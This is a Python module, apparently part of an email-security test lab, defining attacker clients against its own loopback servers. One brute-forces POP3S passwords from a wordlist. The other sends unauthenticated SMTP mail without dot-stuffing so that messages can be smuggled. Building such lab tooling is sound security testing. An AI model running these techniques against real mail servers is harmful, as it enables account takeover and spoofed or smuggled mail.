"""Attackers that are clients: a guesser of passwords, a smuggler, a spammer, and a sender that never looks back."""

from __future__ import annotations

import ssl
from collections.abc import Iterable
from dataclasses import dataclass

from emailsys.lab.base.client import Client
from emailsys.lab.base.loopback import HOST
from emailsys.lab.base.view import View
from emailsys.wiretap.conversation import Role


@dataclass(frozen=True, slots=True)
class Guessed:
    """The result of guessing: the password, if it was found, the number of tries, and the last reply to a try."""

    password: str | None
    tries: int
    last_reply: str
    views: tuple[View, ...]


def guess_passwords(port: int, context: ssl.SSLContext, user: str, words: Iterable[str]) -> Guessed:
    """Tries passwords over POP3S, as many on a connection as the server allows."""
    views: list[View] = []
    client: Client | None = None
    tries, reply, ready = 0, "", ""
    try:
        for word in words:
            if client is None or not ready.startswith("+OK"):
                if client is not None:
                    client.close()
                views.append(View("pop3", Role.CLIENT, f"{HOST}:{port}"))
                client = Client(port, views[-1], context)
                client.status()
                ready = client.status(f"USER {user}")
            tries += 1
            reply = client.status(f"PASS {word}")
            if reply.startswith("+OK"):
                return Guessed(word, tries, reply, tuple(views))
            ready = client.status(f"USER {user}")
        return Guessed(None, tries, reply, tuple(views))
    finally:
        if client is not None:
            client.close()


@dataclass(frozen=True, slots=True)
class Poured:
    """The view of a sender without a queue, and the replies from EHLO on."""

    view: View
    replies: tuple[str, ...]

    @property
    def final(self) -> str:
        """The last reply that is not to QUIT; "" if there was none after the message."""
        said = [reply for reply in self.replies if not reply.startswith("221")]
        return said[-1] if said and not said[-1].startswith("354") else ""


def pour(port: int, sender: str, recipient: str, message: bytes, helo: str) -> Poured:
    """Sends a message without a login, and never again.

    The message is sent as it is: its dots are not stuffed, which a smuggler needs. A refusal ends the session.
    """
    view = View("smtp", Role.CLIENT, f"{HOST}:{port}")
    replies: list[str] = []
    with Client(port, view) as client:
        client.reply()
        for command in (f"EHLO {helo}", f"MAIL FROM:<{sender}>", f"RCPT TO:<{recipient}>", "DATA"):
            replies.append(client.ask(command))
            if not replies[-1].startswith(("2", "3")):
                client.ask("QUIT")
                return Poured(view, tuple(replies))
        client.send(message + b"\r\n.\r\n")
        if said := client.reply():
            replies.append(said)
            # If the server took one message for several, further replies follow; that to QUIT is the last one.
            client.send(b"QUIT\r\n")
        while reply := client.reply():
            replies.append(reply)
    return Poured(view, tuple(replies))
